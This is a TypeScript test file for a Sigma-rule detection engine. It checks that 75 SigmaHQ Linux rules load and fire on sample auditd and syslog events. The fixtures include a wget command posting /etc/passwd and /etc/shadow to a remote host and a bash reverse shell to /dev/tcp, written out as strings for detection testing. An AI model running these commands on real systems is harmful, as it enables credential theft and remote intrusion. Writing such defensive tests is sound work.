import path from 'node:path';
import { readdirSync, statSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { loadRules } from '../../src/detection/sigma/loader.js';
import { DetectionEngine } from '../../src/detection/engine.js';
import { datasets } from './helpers.js';

const sigmaDir = path.join(datasets, 'sigma-rules/rules');

function ymlFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = path.join(dir, n);
    return statSync(p).isDirectory() ? ymlFiles(p) : /\.ya?ml$/.test(n) ? [p] : [];
  });
}

describe('SigmaHQ Linux rules (../shared/datasets/sigma-rules)', () => {
  it('every rule either loads or is refused with its file, line and feature', async () => {
    const files = ymlFiles(sigmaDir);
    const r = await loadRules([sigmaDir]);
    const refusedFiles = new Set(r.refusals.map((x) => x.file));
    const loadedFiles = new Set(r.rules.map((x) => x.file));
    // 75 files, one rule each: each lands on exactly one side.
    expect(files).toHaveLength(75);
    for (const f of files) expect(loadedFiles.has(f) !== refusedFiles.has(f)).toBe(true);
    for (const x of r.refusals) {
      expect(x.line).toBeGreaterThan(0);
      expect(x.feature).not.toBe('');
    }
    const reasons: Record<string, number> = {};
    for (const x of r.refusals) reasons[x.feature] = (reasons[x.feature] ?? 0) + 1;
    console.log(`SigmaHQ: ${r.rules.length} loaded, ${r.refusals.length} refused`, reasons);
    // Measured: all 75 use only supported features (auditd/syslog/sshd logsources, contains/startswith/endswith/all/re).
    expect(r.rules.length).toBe(75);
    // Loading is not enough: every loaded rule compiles into one engine with the built-ins.
    const builtin = await loadRules([], { builtin: true });
    const engine = new DetectionEngine({ rules: [...builtin.rules, ...r.rules] });
    expect(engine.rules).toHaveLength(builtin.rules.length + 75);
  });

  it('loaded SigmaHQ rules fire on the events they describe, through the built-in extractors', async () => {
    const r = await loadRules([sigmaDir]);
    const engine = new DetectionEngine({ rules: r.rules });
    const names = (text: string) => {
      const res = engine.scanText(text);
      return [...res.hits].filter((_, i) => i % 2 === 1).map((i) => engine.rules[i]!.title);
    };
    // auditd EXECVE, raw and as forwarded by audispd through syslog; a1 hex-encoded like auditd does.
    const hex = Buffer.from('--post-file=/etc/passwd').toString('hex').toUpperCase();
    expect(names(`type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="wget" a1=${hex} a2="http://203.0.113.9/up"`)).toContain('Data Exfiltration with Wget');
    expect(names(`Nov 27 10:00:00 web1 audispd: node=web1 type=EXECVE msg=audit(1700000000.123:42): argc=2 a0="wget" a1="--post-file=/etc/shadow"`)).toContain(
      'Data Exfiltration with Wget',
    );
    expect(names(`type=EXECVE msg=audit(1700000000.123:42): argc=2 a0="wget" a1="http://example.com"`)).not.toContain('Data Exfiltration with Wget');
    // Keyword rule over a syslog message.
    expect(names('Nov 27 10:00:00 host bash[123]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1').length).toBeGreaterThan(0);
    expect(names('Nov 27 10:00:00 host bash[123]: ls -la /tmp')).toEqual([]);
  });
});
